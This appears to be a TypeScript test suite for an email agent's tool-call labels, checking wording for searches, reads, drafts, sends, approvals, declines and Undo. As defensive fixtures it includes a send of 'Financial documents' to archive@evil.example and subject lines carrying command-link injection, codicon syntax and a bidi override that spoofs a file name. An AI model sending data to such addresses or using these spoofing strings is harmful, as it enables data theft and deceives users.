import * as assert from 'node:assert/strict';
import { callActionLabel, type CallForWording } from '../../../src/ui/calls/callActionLabel';
import { NOTIFICATION_LINK_PATTERN } from '../../../src/ui/shared/untrustedText';

const call = (tool: string, args: Record<string, unknown>, more: Partial<CallForWording> = {}): CallForWording => ({ tool, args, status: 'succeeded', ...more });

describe('tool calls worded as actions (the tree view)', () => {
  it('a search names its query and how many messages it found', () => {
    assert.equal(callActionLabel(call('search_messages', { query: 'from:sam is:unread', maxResults: 20 }, { glance: { count: 4 } })), "Search 'from:sam is:unread' — 4 messages");
    assert.equal(callActionLabel(call('search_messages', { query: 'invoice' }, { glance: { count: 10, more: true } })), "Search 'invoice' — 10 messages, more available");
    assert.equal(callActionLabel(call('search_messages', { labelIds: ['INBOX'] }, { glance: { count: 1 } })), 'List mail labelled Inbox — 1 message');
    assert.equal(callActionLabel(call('search_messages', {}, { status: 'running' })), 'List recent mail');
  });

  it('a read names the subject and the sender; before the result, never an id', () => {
    assert.equal(callActionLabel(call('read_message', { id: '18c2a4f0b1d2e3f4' }, { glance: { subject: 'Q3 roadmap', from: 'Sam Patel' } })), "Read 'Q3 roadmap' from Sam Patel");
    assert.equal(callActionLabel(call('read_message', { id: '18c2a4f0b1d2e3f4' }, { status: 'running' })), 'Read a message');
    assert.equal(callActionLabel(call('read_message', { id: 'ffffffffffffffff' }, { status: 'failed' })), 'Failed · Read a message');
    assert.equal(callActionLabel(call('read_message', { id: 'a', cursor: 'c' }, { glance: { subject: 'Long one', from: 'Ann' } })), "Read 'Long one' from Ann (continued)");
  });

  it('batch reads, threads, attachments, labels, profile and drafts each get their own wording', () => {
    assert.equal(callActionLabel(call('read_messages', { ids: ['a', 'b', 'c'] }, { glance: { count: 3 } })), 'Read 3 messages');
    assert.equal(callActionLabel(call('read_messages', { ids: ['a', 'b', 'c'] }, { glance: { count: 2, more: true } })), 'Read 3 messages — 2 read, more to come');
    assert.equal(callActionLabel(call('read_messages', { ids: ['a'] }, { glance: { count: 1, subject: 'Hi', from: 'Bo' } })), "Read 'Hi' from Bo");
    assert.equal(callActionLabel(call('read_thread', { threadId: 't1' }, { glance: { subject: 'Lisbon trip', count: 4 } })), "Read thread 'Lisbon trip' — 4 messages");
    assert.equal(callActionLabel(call('get_attachment', { messageId: 'm1', partId: '2' }, { glance: { file: 'invoice.pdf' } })), "Read attachment 'invoice.pdf'");
    assert.equal(callActionLabel(call('get_attachment', { messageId: '18c2a4f0b1d2e3f4', partId: '2' }, { status: 'failed' })), 'Failed · Read an attachment');
    assert.equal(callActionLabel(call('list_labels', {}, { glance: { count: 14 } })), 'List labels — 14 labels');
    assert.equal(callActionLabel(call('get_profile', {})), 'Look up account profile');
    assert.equal(callActionLabel(call('list_drafts', {}, { glance: { count: 2 } })), 'List drafts — 2 drafts');
    assert.equal(callActionLabel(call('get_draft', { draftId: 'r-123' }, { glance: { subject: 'Notes' } })), "Read draft 'Notes'");
    assert.equal(callActionLabel(call('create_draft', { to: ['a@x.example'], subject: 'Plan', body: 'b' }, { glance: { subject: 'Plan', to: ['a@x.example'], recipients: 1 } })), "Save a draft 'Plan' to a@x.example");
    assert.equal(callActionLabel(call('update_draft', { draftId: 'r-1', body: 'b' }, { glance: { subject: 'Plan', to: ['a@x.example'], recipients: 1 } })), "Update draft 'Plan'");
    assert.equal(callActionLabel(call('delete_draft', { draftId: 'r-1' }, { status: 'awaitingApproval' })), 'Awaiting your approval · Delete a draft');
    assert.equal(callActionLabel(call('send_draft', { draftId: 'r-1' }, { glance: { subject: 'Plan', to: ['a@x.example', 'b@x.example'], recipients: 2 } })), "Sent · Send draft 'Plan' to a@x.example and 1 other");
  });

  it('a send says where it goes and how it ended: awaiting approval, sending in N s, sent, declined, timed out, undone', () => {
    const args = { to: ['archive@evil.example'], subject: 'Financial documents', body: 'x' };
    assert.equal(callActionLabel(call('send_message', args, { status: 'awaitingApproval' })), "Awaiting your approval · Send 'Financial documents' to archive@evil.example");
    assert.equal(
      callActionLabel(call('send_message', args, { status: 'waitingToSend', sendsAt: 10_000 }), 3_500),
      "Sending in 7 s · Send 'Financial documents' to archive@evil.example",
    );
    const declined = { subject: 'Financial documents', to: ['archive@evil.example'], recipients: 1 };
    assert.equal(callActionLabel(call('send_message', args, { status: 'declined', glance: { ...declined, declined: 'declined' } })), "Declined · Send 'Financial documents' to archive@evil.example");
    assert.equal(callActionLabel(call('send_message', args, { status: 'declined', glance: { ...declined, declined: 'timeout' } })), "Declined (not answered in time) · Send 'Financial documents' to archive@evil.example");
    assert.equal(callActionLabel(call('send_message', args, { status: 'declined', glance: { ...declined, declined: 'undone' } })), "Cancelled with Undo · Send 'Financial documents' to archive@evil.example");
    assert.equal(callActionLabel(call('send_message', args, { glance: declined, edited: true })), "Sent as you edited it · Send 'Financial documents' to archive@evil.example");
    assert.equal(callActionLabel(call('send_message', { replyToMessageId: '18c2a4f0b1d2e3f4', body: 'yes' }, { status: 'awaitingApproval' })), 'Awaiting your approval · Reply to a message');
    assert.equal(
      callActionLabel(call('send_message', { replyToMessageId: '18c2a4f0b1d2e3f4', body: 'yes' }, { glance: { subject: 'Re: Invitation', to: ['Tomasz Wierzbicki <t@w.example>'], recipients: 1 } })),
      "Sent · Reply 'Re: Invitation' to Tomasz Wierzbicki <t@w.example>",
    );
    assert.equal(callActionLabel(call('send_message', { forwardMessageId: 'm9', to: ['a@b.example', 'c@d.example', 'e@f.example'], body: 'fyi' }, { status: 'approved' })), 'Approved, sending · Forward to a@b.example and 2 others');
  });

  it('trash, untrash and label changes say what they did to how many messages, and Undo shows', () => {
    assert.equal(callActionLabel(call('trash_messages', { ids: ['a', 'b', 'c'] }, { status: 'awaitingApproval' })), 'Awaiting your approval · Move 3 messages to Trash');
    assert.equal(callActionLabel(call('trash_messages', { ids: ['a', 'b', 'c'] }, { glance: { count: 3 } })), 'Move 3 messages to Trash');
    assert.equal(callActionLabel(call('trash_messages', { ids: ['a', 'b', 'c'] }, { glance: { count: 3 }, undone: true })), 'Undone · Move 3 messages to Trash');
    assert.equal(callActionLabel(call('trash_messages', { query: 'category:promotions', maxMessages: 10 }, { status: 'declined', glance: { declined: 'closed' } })), "Declined (confirmation closed) · Move mail matching 'category:promotions' to Trash");
    assert.equal(callActionLabel(call('untrash_messages', { ids: ['a'] }, { glance: { count: 1 } })), 'Restore 1 message from Trash');
    assert.equal(callActionLabel(call('modify_labels', { ids: ['a', 'b'], archive: true }, { glance: { count: 2 } })), 'Archive 2 messages');
    assert.equal(callActionLabel(call('modify_labels', { threadIds: ['t1'], addLabels: ['Work'] }, { status: 'running' })), "Add label 'Work' to the messages of 1 thread");
    assert.equal(callActionLabel(call('modify_labels', { ids: ['a'], markRead: true, star: true, removeLabels: ['Later'] }, { glance: { count: 1 } })), "Change labels of 1 message: mark read, star, remove 'Later'");
  });

  it('a thread the person attached to the chat (an MCP resource) reads as the attachment, not as the agent reading it', () => {
    const attached = { origin: 'resource' as const };
    assert.equal(
      callActionLabel(call('read_thread', { threadId: '18c2a4f0b1d2e3f4' }, { ...attached, glance: { subject: 'Q3 roadmap', from: 'Sam Patel', count: 3 } })),
      "Attach thread 'Q3 roadmap' (Sam Patel) to the chat — 3 messages",
    );
    assert.equal(callActionLabel(call('read_thread', { threadId: '18c2a4f0b1d2e3f4' }, { ...attached, status: 'running' })), 'Attach a thread to the chat');
    assert.equal(callActionLabel(call('read_thread', { threadId: 'ffffffffffffffff' }, { ...attached, status: 'failed' })), 'Failed · Attach a thread to the chat');
    assert.equal(callActionLabel(call('search_messages', { query: 'in:inbox', maxResults: 10 }, { ...attached, glance: { count: 10 } })), 'List recent threads to attach — 10 messages');
    // The agent's own read of the same thread keeps its wording.
    assert.equal(callActionLabel(call('read_thread', { threadId: 't1' }, { glance: { subject: 'Q3 roadmap', from: 'Sam Patel', count: 3 } })), "Read thread 'Q3 roadmap' — 3 messages");
    const hostile = callActionLabel(call('read_thread', { threadId: 't1' }, { ...attached, glance: { subject: 'Pay [now](command:x)', from: 'Bo $(check) \u202Eevil', count: 1 } }));
    assert.equal(hostile.match(NOTIFICATION_LINK_PATTERN), null, hostile);
    assert.doesNotMatch(hostile, /\]\(|\$\(|command:|\u202E/u);
  });

  it('a subject carrying a command link, codicon syntax or bidi characters shows inert, on one capped line', () => {
    const hostile = 'Invoice [Approve](command:gmailTools.confirm.approve "Approve") $(check) \u202Egnp.exe\u202C\nsecond line';
    const label = callActionLabel(call('read_message', { id: 'm1' }, { glance: { subject: hostile, from: 'Bo [x](https://evil.example)' } }));
    assert.equal(label.match(NOTIFICATION_LINK_PATTERN), null, label);
    assert.doesNotMatch(label, /\]\(/);
    assert.doesNotMatch(label, /\$\(/);
    assert.doesNotMatch(label, /[\u202A-\u202E\u2066-\u2069\n]/u);
    assert.doesNotMatch(label, /command:/);
    assert.match(label, /^Read 'Invoice \[Approve\] \(command∶gmailTools/);
    assert.ok(label.length <= "Read '' from ".length + 60 + 40, `${label.length}: ${label}`);
    const long = callActionLabel(call('search_messages', { query: 'x'.repeat(2000) }, { glance: { count: 0 } }));
    assert.equal(long, `Search '${'x'.repeat(49)}…' — 0 messages`);
  });
  it('a pending reply is named by the subject its confirmation shows, and no row ever shows an id', () => {
    const reply = { replyToMessageId: '3960627b4c1d2e3f', body: 'yes' };
    assert.equal(
      callActionLabel(call('send_message', reply, { status: 'awaitingApproval', glance: { subject: 'Re: Q3 roadmap', to: ['sam@example.com'], recipients: 1 } })),
      "Awaiting your approval · Reply 'Re: Q3 roadmap' to sam@example.com",
    );
    const id = '3960627b4c1d2e3f';
    const statuses = ['running', 'awaitingApproval', 'approved', 'declined', 'failed'] as const;
    const calls: Array<[string, Record<string, unknown>]> = [
      ['read_message', { id }],
      ['read_thread', { threadId: id }],
      ['get_attachment', { messageId: id, partId: '2' }],
      ['get_draft', { draftId: id }],
      ['update_draft', { draftId: id }],
      ['delete_draft', { draftId: id }],
      ['send_draft', { draftId: id }],
      ['send_message', { replyToMessageId: id, body: 'b' }],
      ['send_message', { forwardMessageId: id, to: ['a@b.example'] }],
    ];
    for (const [tool, args] of calls) {
      for (const status of statuses) assert.doesNotMatch(callActionLabel(call(tool, args, { status })), /3960627b/, `${tool} ${status}`);
    }
  });

  it('the outcome of a write leads, so a narrow side bar still shows it', () => {
    const label = callActionLabel(call('send_message', { to: ['a@b.example'], subject: 'A subject long enough to be cut at the side bar edge', body: 'x' }, { status: 'declined' }));
    assert.match(label, /^Declined · Send 'A subject/);
  });
});
